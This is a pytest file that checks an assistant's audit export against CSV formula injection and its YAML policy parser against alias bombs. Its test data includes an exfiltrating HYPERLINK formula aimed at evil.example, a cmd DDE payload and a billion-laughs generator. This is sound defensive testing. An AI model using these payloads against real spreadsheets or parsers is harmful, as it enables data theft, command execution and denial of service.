"""Hostile text typed by users: an audit export never carries a live spreadsheet formula, and a policy draft
cannot make the editor expand an alias bomb or echo the whole draft back."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from assistant.audit import AuditStore
from guardrails.contracts import Answer

FORMULAS = ['=HYPERLINK("https://evil.example/?q="&A1,"Click for details")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def test_the_audit_export_neutralises_spreadsheet_formulas(tmp_path: Path) -> None:
    """OWASP's CSV injection: a comment, question or user name that starts with = + - @ (or tab / CR) opens
    as a formula in a spreadsheet. Exported, every such cell starts with a quote and is shown as text."""
    audit = AuditStore(tmp_path / "audit.sqlite", redact=lambda text: text)
    for i, formula in enumerate(FORMULAS):
        answer = Answer(question=formula, answer=formula, status="answered", language="en", model="m",
                        policy_version="p", trace_id=f"t{i}")
        entry = audit.record(answer, user=formula, conversation=formula)
        audit.rate(entry, formula, "down", comment=formula, expected=formula)
    rows = list(csv.DictReader(io.StringIO(audit.csv(audit.entries()))))
    assert len(rows) == len(FORMULAS)
    cells = [row[name] for row in rows for name in ("user", "conversation", "question", "answer", "comment",
                                                    "expected")]
    assert len(cells) == 6 * len(FORMULAS)
    live = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert live == []
    assert sorted(row["question"][1:] for row in rows) == sorted(FORMULAS) # the text itself is kept, only made inert
    assert {cell[1:] for cell in cells} <= set(FORMULAS) | {f.strip() for f in FORMULAS}  # comments are trimmed
    assert all(row["id"].isdigit() for row in rows)  # numbers the store wrote stay numbers


def laughs(levels: int, key: str = "name") -> str:
    """The "billion laughs": a few hundred bytes whose aliases expand to 9**levels values."""
    lines = ['l0: &l0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"l{i}: &l{i} [{','.join([f'*l{i - 1}'] * 9)}]" for i in range(1, levels)]
    return "\n".join([*lines, f"{key}: *l{levels - 1}", ""])


def test_a_policy_draft_that_is_an_alias_bomb_is_refused_in_one_short_message() -> None:
    from guardrails.policy import Policy, PolicyError

    bomb = laughs(9, key="in_scope")  # 387 million values from under 500 bytes
    assert len(bomb) < 600
    with pytest.raises(PolicyError) as refused:
        Policy.from_yaml(bomb, "the draft")
    assert "aliases expand to more than" in str(refused.value)
    assert len(str(refused.value)) < 300


def test_a_policy_draft_is_bounded_in_size_nesting_and_listed_problems() -> None:
    from guardrails.policy import MAX_ERRORS, Policy, PolicyError
    from guardrails.untrusted_yaml import MAX_CHARS

    shipped = Path("guardrails/policies/default.yaml").read_text(encoding="utf-8")
    Policy.from_yaml(shipped)  # the limits leave a real policy alone
    Policy.from_yaml(shipped + "\n# " + "x" * (MAX_CHARS - len(shipped) - 10))
    for draft, says in [(shipped + "\n# " + "x" * MAX_CHARS, "the limit is"),
                        ("a: " + "[" * 5000 + "]" * 5000, "nested too deeply"),
                        ("a: &a [1, *a]", "aliases expand"),
                        ("\n".join(f"key{i}: {'v' * 200}" for i in range(500)), "more problems")]:
        with pytest.raises(PolicyError) as refused:
            Policy.from_yaml(draft, "the draft")
        message = str(refused.value)
        assert says in message
        assert len(message.splitlines()) <= MAX_ERRORS + 1 and len(message) < 20_000, message[:200]


def test_a_suite_that_is_an_alias_bomb_is_refused_by_place_not_by_content() -> None:
    from evals.suite import SuiteError, parse

    with pytest.raises(SuiteError) as refused:
        parse(("suite: bomb\ncorpus: ''\n" + laughs(9, key="cases")).encode(), "bomb.yaml")
    assert "aliases expand to more than" in str(refused.value) and "lol" not in str(refused.value)
